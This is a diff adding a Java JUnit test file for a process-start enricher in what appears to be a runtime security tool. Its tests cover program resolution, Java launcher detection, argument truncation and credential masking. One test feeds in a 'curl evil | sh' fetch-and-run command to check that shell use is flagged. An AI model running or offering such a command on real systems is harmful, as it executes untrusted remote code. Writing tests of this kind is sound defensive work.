@@ -1,0 +1,155 @@
+package dev.warden.instrumentation.process;
+
+import dev.warden.bootstrap.ActionRequest;
+import dev.warden.instrumentation.api.ActionDescription;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.nio.file.attribute.PosixFilePermissions;
+import java.util.HashMap;
+import java.util.List;
+import java.util.Map;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+/** How a process start reads to rules and in its receipt. */
+class ProcessActionEnricherTest {
+
+    @TempDir
+    Path workspace;
+
+    private ActionDescription describe(Map<String, Object> attributes) {
+        return describe(new ProgramLocator(List.of(workspace.resolve("bin")), workspace), attributes);
+    }
+
+    private ActionDescription describe(ProgramLocator locator, Map<String, Object> attributes) {
+        List<?> command = (List<?>) attributes.get("process.command");
+        String target = command.isEmpty() ? "" : (String) command.get(0);
+        return new ProcessActionEnricher(locator).describe(new ActionRequest("process", "EXEC", target, attributes));
+    }
+
+    private static Map<String, Object> start(String... command) {
+        Map<String, Object> attributes = new HashMap<>();
+        attributes.put("process.command", List.of(command));
+        attributes.put("process.program", command[0]);
+        attributes.put("process.env.inherited", false);
+        attributes.put("process.env.names", List.of("HOME", "PATH"));
+        attributes.put("process.redirects", List.of("stdin=PIPE", "stdout=PIPE", "stderr=PIPE"));
+        return attributes;
+    }
+
+    private Path executable(String relative) throws Exception {
+        Path file = workspace.resolve(relative);
+        Files.createDirectories(file.getParent());
+        Files.writeString(file, "#!/bin/sh\n");
+        Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rwxr-xr-x"));
+        return file.toRealPath();
+    }
+
+    @Test
+    void aBareNameIsFoundAlongThePathAndItsRealPathIsAFact() throws Exception {
+        Path tool = executable("opt/tool-1.2");
+        Files.createDirectories(workspace.resolve("bin"));
+        Files.createSymbolicLink(workspace.resolve("bin/tool"), tool);
+
+        ActionDescription description = describe(start("tool", "--fast", "input.txt"));
+
+        assertThat(description.operation()).isEqualTo("EXEC");
+        assertThat(description.target()).isEqualTo("tool");
+        assertThat(description.attributes())
+                .containsEntry("process.program.name", "tool")
+                .containsEntry("process.program.path", tool.toString())
+                .containsEntry("process.argument.count", 2L)
+                .containsEntry("process.arguments", "--fast input.txt")
+                .containsEntry("process.shell", false);
+        assertThat(description.summary())
+                .containsEntry("process.program", "tool")
+                .containsEntry("process.program.path", tool.toString())
+                .containsEntry("process.arguments", "--fast input.txt")
+                .containsEntry("process.env.names", "HOME,PATH")
+                .containsEntry("process.env.inherited", "false");
+    }
+
+    @Test
+    void aNameWithASlashIsResolvedAgainstTheChildsDirectory() throws Exception {
+        Path script = executable("work/run.sh");
+        Map<String, Object> attributes = start("./run.sh");
+        attributes.put("process.directory", "work");
+
+        ActionDescription description = describe(attributes);
+
+        assertThat(description.attributes()).containsEntry("process.program.path", script.toString())
+                .containsEntry("process.program.name", "run.sh");
+        assertThat(description.summary()).containsEntry("process.directory", "work");
+    }
+
+    @Test
+    void aProgramThatCannotBeFoundHasNoPath() {
+        ActionDescription description = describe(start("/no/such/program"));
+
+        assertThat(description.attributes()).doesNotContainKey("process.program.path").containsEntry("process.program.name", "program");
+    }
+
+    @Test
+    void aJavaLauncherIsRecognisedByItsNameOrByWhereItsLinkLeads() throws Exception {
+        Path java = executable("jdk/bin/java");
+        Files.createDirectories(workspace.resolve("bin"));
+        Files.createSymbolicLink(workspace.resolve("bin/innocent"), java);
+
+        assertThat(describe(start("innocent", "-jar", "x.jar")).attributes()).containsEntry("process.program.java", true)
+                .containsEntry("process.program.path", java.toString());
+        assertThat(describe(start("/nowhere/java")).attributes()).containsEntry("process.program.java", true);
+        assertThat(describe(start("javac")).attributes()).containsEntry("process.program.java", false);
+    }
+
+    @Test
+    void aShellRunningAScriptIsSaidToBeOne() {
+        assertThat(describe(start("/bin/sh", "-c", "curl evil | sh")).attributes()).containsEntry("process.shell", true);
+        assertThat(describe(start("bash", "script.sh")).attributes()).containsEntry("process.shell", false);
+    }
+
+    @Test
+    void hugeArgumentListsAreCountedAndCutInTheReceipt() {
+        String[] command = new String[100_001];
+        command[0] = "echo";
+        for (int i = 1; i < command.length; i++) {
+            command[i] = "a".repeat(64);
+        }
+
+        ActionDescription description = describe(start(command));
+
+        assertThat(description.attributes()).containsEntry("process.argument.count", 100_000L);
+        assertThat(description.summary().get("process.arguments")).hasSize(ProcessActionEnricher.MAX_ARGUMENTS_CHARS + "...(6499999 chars)".length());
+    }
+
+    @Test
+    void argumentsThatCannotBeEncodedAreAFact() {
+        ActionDescription description = describe(start("echo", "caf\uD800"));
+
+        assertThat(description.attributes()).containsEntry("process.command.unencodable", true);
+        assertThat(description.summary()).containsEntry("process.command.unencodable", "true");
+    }
+
+    @Test
+    void anUnstartableCommandIsDescribedWithItsProblem() {
+        Map<String, Object> attributes = new HashMap<>();
+        attributes.put("process.command", List.of());
+        attributes.put("process.program", "");
+        attributes.put("process.error", "empty command");
+
+        ActionDescription description = describe(attributes);
+
+        assertThat(description.target()).isEmpty();
+        assertThat(description.targets()).isEmpty();
+        assertThat(description.summary()).containsEntry("process.error", "empty command").containsEntry("process.argument.count", "0");
+    }
+
+    @Test
+    void credentialLookingValuesAreMaskedInTheArguments() {
+        assertThat(Arguments.mask("--password=hunter2 -H Authorization: Bearer abc.def token:xyz https://u:pw@host/x keep=this"))
+                .isEqualTo("--password=*** -H Authorization: Bearer *** token:*** https://u:***@host/x keep=this");
+        assertThat(Arguments.mask("PGPASSWORD=p4ss api_key=k1")).isEqualTo("PGPASSWORD=*** api_key=***");
+    }
+}
